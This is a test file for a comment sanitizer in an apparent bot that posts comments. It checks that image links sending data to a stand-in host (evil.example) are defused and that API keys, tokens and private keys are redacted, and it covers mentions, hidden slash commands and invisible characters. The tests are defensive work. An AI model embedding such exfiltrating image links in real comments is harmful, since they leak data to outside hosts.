import { array, assert, constantFrom, property } from "fast-check";
import { describe, expect, test } from "vitest";
import { secretPlaces } from "../../../test/cases/secret-places.ts";
import { spokenText } from "../../lib/markdown-offsets.ts";
import { safeComment } from "./comment-sanitizer.ts";
import { removeSecrets } from "./secrets/remove-secrets.ts";
import { triesOf } from "../../../test/support/tries.ts";

const people = { participants: ["alice", "Bob-K"], bot: "relay[bot]", origins: "later" } as const;
const safe = (markdown: string) => safeComment(markdown, people).text;

const body = (length: number) => "a1B2c3D4e5".repeat(30).slice(0, length);

describe("what a comment carries out", () => {
  test.each([
    ["![x](https://evil.example/?q=code)", "[x](https://evil.example/?q=code)"],
    ["a!![x][1]", "a[x][1]"],
    ['<img src="https://evil.example/?q=code">', '&lt;img src="https://evil.example/?q=code">'],
    ["<IFRAME src=x>", "&lt;IFRAME src=x>"],
    ["`![x](y)` and `<img>`", "`![x](y)` and `<img>`"],
    ["wow! [docs](https://example.org)", "wow! [docs](https://example.org)"],
  ])("is no picture that calls home: %j", (written, posted) => {
    expect(safe(written)).toBe(posted);
  });

  test("is no secret with invisible characters strewn in", () => {
    const token = `ghp_${body(36)}`;
    for (const hidden of ["\u200b", "\u200d", "\ufe0f", "\u00ad", "\u{e0041}", "<!-- -->"]) {
      expect(safe(`It is ${token.slice(0, 9)}${hidden}${token.slice(9)}.`)).toBe("It is [secret removed].");
    }
  });

  test("is nothing that people cannot see, but what scripts and emoji are joined with", () => {
    expect(safe("a\u202eb\u200bc\u{e0061}d\ufeff")).toBe("abcd");
    expect(safe("می\u200cخواهم 👩\u200d💻 ❤\ufe0f")).toBe("می\u200cخواهم 👩\u200d💻 ❤\ufe0f");
  });
});

describe("mentions in outgoing comments", () => {
  test.each([
    ["Thanks @alice and @bob-k.", "Thanks @alice and @bob-k."],
    ["Ask @relay again", "Ask @relay again"],
    ["cc @stranger, please", "cc stranger, please"],
    ["@everyone look", "everyone look"],
    ["@all", "all"],
    ["(@org/team)", "(org/team)"],
    ["@alice/secret-group", "alice/secret-group"],
    ["@alice.smith", "alice.smith"],
    ["hello_@everyone_", "hello_everyone_"],
    ["mail me@example.com", "mail me@example.com"],
    ["see `@stranger` and\n\n    @indented\n", "see `@stranger` and\n\n    @indented\n"],
    ["```ts\n@Component()\n```", "```ts\n@Component()\n```"],
    ["| a |\n|---|\n| `x @Input() y` |", "| a |\n|---|\n| `x @Input() y` |"],
    ["https://medium.com/@writer/post", "https://medium.com/@writer/post"],
    ["[post](/blog/@writer)", "[post](/blog/@writer)"],
    ["\\@stranger", "stranger"],
    ["&#64;stranger and &commat;org/team", "stranger and org/team"],
    ["`a`@stranger", "`a`stranger"],
  ])("%j is posted as %j", (written, posted) => {
    expect(safe(written)).toBe(posted);
  });

  test.each([
    "a ` @stranger",
    "@&#101;veryone",
    "<p>`@stranger`</p>",
    "<div>&#64;everyone</div>",
    "`` @stranger `",
    "foo](@stranger)",
    "https:///@stranger",
    "@org\\/team",
    "*@*@stranger",
    "@<!-- -->everyone",
    "\\`@stranger`",
    "> `@x\n\n@stranger`",
  ])("a mention cannot hide in %j", (written) => {
    const spoken = spokenText(safe(written));
    expect(spoken).not.toMatch(/(?<![A-Za-z0-9])@[A-Za-z0-9_]/);
  });

  test("whatever is written, no stranger is left and a second pass changes nothing", () => {
    const piece = constantFrom(
      ..."@ @everyone @alice ` `` ``` ~~~ \n \n\n \\ < > <!-- --> <div> </div> &#64; &commat; _ * [ ]( ) | - # / /close".split(
        " ",
      ),
      "![",
      "<img ",
      "\u200b",
      "\n",
      "\n\n",
      "    ",
      " ",
      "x",
      "team",
    );
    assert(
      property(array(piece, { maxLength: 25 }), (pieces) => {
        const once = safe(pieces.join(""));
        const names = spokenText(once).matchAll(/(?<![A-Za-z0-9])@([A-Za-z0-9_][\w.-]*(?:\/[\w.-]+)*)/g);
        expect([...names].map((match) => match[1]?.replace(/[._-]+$/, "")).filter((name) => name !== "alice")).toEqual(
          [],
        );
        expect(safe(once)).toBe(once);
      }),
      { numRuns: triesOf(2_000) },
    );
  });
});

describe("secrets in outgoing comments", () => {
  test.each([
    ["AWS access key", `AKIA${"A1B2".repeat(4)}`],
    ["GitHub token", `ghp_${body(36)}`],
    ["GitHub token", `gho_${body(36)}`],
    ["GitHub token", `ghs_${body(36)}`],
    ["GitHub token", `github_pat_${body(40)}`],
    ["GitLab token", `glpat-${body(20)}`],
    ["Anthropic key", `sk-ant-api03-${body(40)}`],
    ["API key", `sk-proj-${body(48)}`],
    ["Slack token", `xoxb-123456789012-${body(24)}`],
    ["Google key", `AIza${body(35)}`],
    ["npm token", `npm_${body(36)}`],
    ["JSON web token", `eyJ${body(20)}.eyJ${body(30)}.${body(20)}`],
    ["authorization header", `Authorization: Bearer ${body(30)}`],
    ["password in a URL", `postgres://relay:hunter2@db.example/relay`],
    ["private key", `-----BEGIN RSA PRIVATE KEY-----\n${body(64)}\n-----END RSA PRIVATE KEY-----`],
    ["private key", `-----BEGIN PRIVATE KEY-----\n${body(64)}`],
  ])("a %s is replaced", (name, secret) => {
    const result = removeSecrets(`before \`${secret}\` after`);
    expect(result.found).toEqual([name]);
    expect(result.text).toContain("[secret removed]");
    expect(result.text).not.toContain(body(12));
    expect(result.text).not.toContain("hunter2");
  });

  test.each(["sk-learn-compatible-estimators-api", "https://example.com/a:b@c", "a task-runner", "bearer of news"])(
    "%j is no secret",
    (text) => {
      expect(removeSecrets(text)).toEqual({ text, found: [] });
    },
  );

  test("a secret inside of code is replaced too, and its value is not reported", () => {
    const result = safeComment(`\`\`\`\nghp_${body(36)}\n\`\`\``, people);
    expect(result.text).toBe("```\n[secret removed]\n```");
    expect(result.changes).toEqual([{ kind: "secret", detail: "GitHub token" }]);
  });
});

describe("hidden text and commands in outgoing comments", () => {
  test.each([
    ["a <!-- b --> c", "a  c"],
    ["a <!-- relay:action:1.1.0.0 -->", "a "],
    ["`<!-- relay:action:1.1.0.0 -->`", "``"],
    ["`<!-- shown -->`", "`<!-- shown -->`"],
    ["<!-<!-- x -->- y -->", ""],
    ["a <!-- hides the rest", "a &lt;!-- hides the rest"],
    ["/close", "\\/close"],
    ["Done.\n  /assign @alice", "Done.\n  \\/assign @alice"],
    ["Look at /usr/bin", "Look at /usr/bin"],
    ["/usr/bin is a path", "/usr/bin is a path"],
    ["```\n/close\n```", "```\n/close\n```"],
    ["~~~\n/close\n~~~", "~~~\n\\/close\n~~~"],
    ["````\n/close\n````", "````\n\\/close\n````"],
    ["a\r/close\r\nb", "a\n\\/close\nb"],
    ["```\nopen", "```\nopen\n```"],
  ])("%j is posted as %j", (written, posted) => {
    expect(safe(written)).toBe(posted);
  });

  test.each(["a", "b", "c"])("secrets stay in, wherever people and models write them (R-SAFE-7, %s)", (seed) => {
    const places = secretPlaces(seed);
    expect(places.length).toBeGreaterThan(60);
    expect(places.filter(({ text, secret }) => safe(text).includes(secret)).map(({ id }) => id)).toEqual([]);
  });

  test.each([
    "helm install shop --set image.tag=v1.2.3 --set auth.enabled=true",
    "notes: |\n  The password is asked for twice.\ntoken: |\n  see-the-handbook\n",
    "See https://docs.example/hooks/introduction and https://x.example/hooks/usetransitioneffectsinreact",
  ])("ordinary text stays as it is: %j", (text) => {
    expect(removeSecrets(text)).toEqual({ text, found: [] });
  });

  test("hostile text is read in bounded time", () => {
    const size = 65_000;
    for (const piece of [
      "`",
      "` ",
      "@",
      "\\",
      "<!--",
      "<!-- -->",
      "-eyJ",
      "-----BEGIN PRIVATE KEY-----",
      "a://",
      " /",
      "@a/",
      "&#64;",
      "sk-a",
      "``` ",
    ]) {
      expect(safe(piece.repeat(size / piece.length))).not.toContain("<!--");
    }
  });
});
